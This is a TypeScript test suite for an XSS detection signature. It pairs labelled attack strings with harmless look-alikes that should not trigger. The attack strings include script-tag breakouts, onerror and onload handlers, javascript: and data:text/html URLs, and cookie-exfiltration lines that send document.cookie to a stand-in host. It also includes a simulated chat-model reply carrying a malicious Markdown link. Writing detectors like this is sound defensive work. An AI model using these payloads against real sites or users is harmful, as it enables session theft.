// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal script text
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Direction, ExecutionContext } from '../../core/index.ts';
import {
  assertTotalOnFragments,
  describeSignatureCases,
  QUIET,
  type SignatureCase,
  scanWith,
  strongest,
} from './__fixtures__/signature-cases.ts';
import { xss } from './xss.ts';

type Reason = keyof typeof xss.reasons;
const scan = (s: string, context?: ExecutionContext, direction?: Direction) => scanWith(xss, s, context, direction);

const CASES: readonly SignatureCase<Reason>[] = [
  // SCRIPT_TAG: probes, breakouts and evasions; an ordinary <script src> in HTML source is weak.
  { text: '<script>alert(1)</script>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.9 } },
  { text: '"><script>fetchData()</script>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.9 } },
  { text: '</title><script>x()</script>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.9 } },
  { text: '<scr<script>ipt>alert(1)</scr</script>ipt>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.9 } },
  { text: '/search?q=<script>go()</script>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.85 } },
  { text: '<ScRiPt>go()</ScRiPt>', expect: { fires: 'SCRIPT_TAG', atLeast: 0.8 } },
  { text: '<script src="/static/app.js"></script>', context: 'code', expect: { below: 0.5 } },
  { text: '<script>window.dataLayer = window.dataLayer || [];</script>', context: 'code', expect: { below: 0.5 } },

  // EVENT_HANDLER: injected, on odd carriers or with probes; inline handlers and JSX are not.
  { text: '<img src=x onerror=alert(1)>', expect: { fires: 'EVENT_HANDLER', atLeast: 0.9 } },
  { text: '<svg onload=alert(document.domain)>', expect: { fires: 'EVENT_HANDLER', atLeast: 0.9 } },
  { text: '<svg/onload=go()>', expect: { fires: 'EVENT_HANDLER', atLeast: 0.8 } },
  { text: '<img src=x onerror="loadIt()">', expect: { fires: 'EVENT_HANDLER', atLeast: 0.85 } },
  { text: '" onmouseover="alert(1)', expect: { fires: 'EVENT_HANDLER', atLeast: 0.9 } },
  {
    text: "' autofocus onfocus='fetch(`//x.example/`+document.cookie)",
    expect: { fires: 'EVENT_HANDLER', atLeast: 0.9 },
  },
  { text: '<button onclick="save()">Save</button>', context: 'code', expect: { below: 0.5 } },
  { text: '<button onClick={handleClick}>Save</button>', context: 'code', expect: QUIET },
  { text: '<img src="logo.png" onerror="this.src=\'fallback.png\'">', context: 'code', expect: { below: 0.5 } },
  { text: 'el.onclick = () => toggle(); She said "hi" and the onload= thing.', context: 'code', expect: QUIET },

  // JAVASCRIPT_URL: script URLs that run code, strongest in Markdown links; void(0) and sanitisers are not.
  { text: '<a href="javascript:alert(1)">x</a>', expect: { fires: 'JAVASCRIPT_URL', atLeast: 0.9 } },
  {
    text: '[click me](javascript:location.assign(1))',
    context: 'plain_text',
    expect: { fires: 'JAVASCRIPT_URL', atLeast: 0.9 },
  },
  { text: '<a href="java\tscript:go()">x</a>', expect: { fires: 'JAVASCRIPT_URL', atLeast: 0.9 } },
  { text: '<a href="&#106;avascript:alert(1)">x</a>', expect: { fires: 'JAVASCRIPT_URL', atLeast: 0.9 } },
  { text: '{"url": "javascript:go()"}', expect: { fires: 'JAVASCRIPT_URL', atLeast: 0.8 } },
  { text: '<a href="javascript:history.back()">Back</a>', context: 'code', expect: { below: 0.7 } },
  { text: '<a href="javascript:void(0)" onclick="toggle()">menu</a>', context: 'code', expect: { below: 0.5 } },
  {
    text: "if (url.startsWith('javascript:')) return ''; href.replace(/^javascript:/i, '')",
    context: 'code',
    expect: QUIET,
  },
  { text: 'JavaScript: The Good Parts is a short book.', context: 'plain_text', expect: QUIET },

  // FRAME_INJECTION: srcdoc documents and meta refreshes to script; embeds are weak.
  {
    text: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    expect: { fires: 'FRAME_INJECTION', atLeast: 0.9 },
  },
  {
    text: '<meta http-equiv="refresh" content="0;url=javascript:go()">',
    expect: { fires: 'FRAME_INJECTION', atLeast: 0.9 },
  },
  { text: '<iframe src="https://www.youtube.com/embed/xyz"></iframe>', context: 'code', expect: { below: 0.5 } },
  { text: '<meta http-equiv="refresh" content="30">', context: 'code', expect: QUIET },

  // DATA_URL_HTML: HTML or script in a data: URL; inline SVG icons in CSS are not.
  {
    text: '<iframe src="data:text/html;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+"></iframe>',
    expect: { fires: 'DATA_URL_HTML', atLeast: 0.85 },
  },
  { text: '[x](data:text/html,<b>hi</b>)', context: 'plain_text', expect: { fires: 'DATA_URL_HTML', atLeast: 0.85 } },
  {
    text: "await page.goto('data:text/html,<h1>Test</h1>')",
    context: 'code',
    expect: { fires: 'DATA_URL_HTML', atLeast: 0.6, below: 0.8 },
  },
  {
    text: 'background: url("data:image/svg+xml;charset=utf8,%3Csvg xmlns=\'http://www.w3.org/2000/svg\'%3E%3C/svg%3E")',
    context: 'code',
    expect: QUIET,
  },

  // COOKIE_EXFILTRATION: the cookie concatenated into a request; reading it locally is not.
  {
    text: "new Image().src='https://x.example/c?'+document.cookie",
    expect: { fires: 'COOKIE_EXFILTRATION', atLeast: 0.9 },
  },
  {
    text: "fetch('https://x.example/?c=' + encodeURIComponent(document.cookie))",
    expect: { fires: 'COOKIE_EXFILTRATION', atLeast: 0.9 },
  },
  { text: "const cookies = document.cookie.split('; ').map(parse);", context: 'code', expect: QUIET },
];

describe('sig.xss', () => {
  describeSignatureCases(xss, CASES);

  it('screens model output the same way (a chat UI that renders Markdown)', () => {
    const { findings } = scan(
      'Sure! [Open the report](javascript:fetch(`//x.example/`+document.cookie))',
      'plain_text',
      'output',
    );
    assert.ok(strongest(findings, 'JAVASCRIPT_URL') >= 0.9);
  });

  it('spans point at the tag opening', () => {
    const { text, findings } = scan('hi <svg onload=alert(1)> there');
    const f = findings.find((x) => x.reason === 'EVENT_HANDLER');
    assert.ok(f?.span);
    assert.equal(text.matching.slice(f.span[0], f.span[1]), ' onload=');
  });

  it('stays bounded on a megabyte of repeated anchors', () => {
    for (const unit of [
      '<script',
      ' onload=',
      ' onerror=x()',
      'javascript:',
      '<iframe ',
      'data:text/html,',
      'document.cookie+',
      '"><script>',
    ]) {
      const { findings } = scan(unit.repeat(Math.ceil(1_000_000 / unit.length)));
      assert.ok(findings.length <= 32 * 6, `${unit}: ${findings.length} findings`);
    }
  });

  it('is total, well-formed and deterministic on arbitrary strings (seed 20261121)', () => {
    const fragments = fc.constantFrom(
      '<script>',
      '<svg',
      ' onload=',
      '"',
      "'",
      '>',
      'javascript:',
      'alert(1)',
      '](',
      'data:text/html,',
      'document.cookie',
      '+',
      '\n',
    );
    assertTotalOnFragments(xss, fragments);
  });
});
